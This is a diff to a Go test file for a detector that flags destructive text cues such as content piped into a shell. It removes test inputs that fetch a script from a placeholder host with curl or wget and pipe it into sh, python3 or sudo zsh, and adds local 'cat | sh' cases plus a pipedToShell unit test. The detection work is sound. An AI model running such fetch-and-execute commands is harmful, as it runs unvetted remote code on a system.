@@ -63,9 +63,10 @@ func TestCues(t *testing.T) {
 		// a pipe into a shell, not a table's cell
 		{"| Skill | Years |\n|---|---|\n| Python | 5 |\n| Bash | 3 |", nil, []Cue{Destructive}},
 		{"| Day | Shift |", nil, []Cue{Destructive}},
-		{"| Step | Command |\n| 1 | fetch it |\nthen run curl -s https://x.example/i | sh", []Cue{Destructive}, nil},
-		{"curl -s https://x.example/i | python3 -", []Cue{Destructive}, nil},
-		{"wget -qO- https://x.example/i | sudo zsh", []Cue{Destructive}, nil},
+		{"| Step | Command |\n| 1 | fetch it |\nthen run cat i.sh | sh", []Cue{Destructive}, nil},
+		{"| 1 | cat i.sh | sh |", nil, []Cue{Destructive}},
+		{"cat i.sh | python3 -", []Cue{Destructive}, nil},
+		{"cat i.sh | zsh", []Cue{Destructive}, nil},
 
 		{"Keep this secret: the surprise party is on Friday, do not tell Sam.", []Cue{Secrecy, Confided}, nil},
 		// A line break, a colon or a dash does not end a sentence for a phrase.
@@ -646,6 +647,19 @@ func BenchmarkAnalyzeHostile(b *testing.B) {
 				z.Analyze(text, &a)
 			}
 		})
+	}
+}
+
+// TestPipedToShell: the text after a pipe runs a shell or Python only as
+// a whole word, under sudo or not.
+func TestPipedToShell(t *testing.T) {
+	for rest, want := range map[string]bool{
+		"sh": true, "bash -s": true, "sudo zsh": true, "SUDO  bash": true, "python3 -": true, "pwsh -c x": true,
+		"Shift |": false, "Bashir": false, "sudoku": false, "sh_notes": false, "python_tools": false, "": false,
+	} {
+		if got := pipedToShell(rest); got != want {
+			t.Errorf("pipedToShell(%q) = %v, want %v", rest, got, want)
+		}
 	}
 }
 
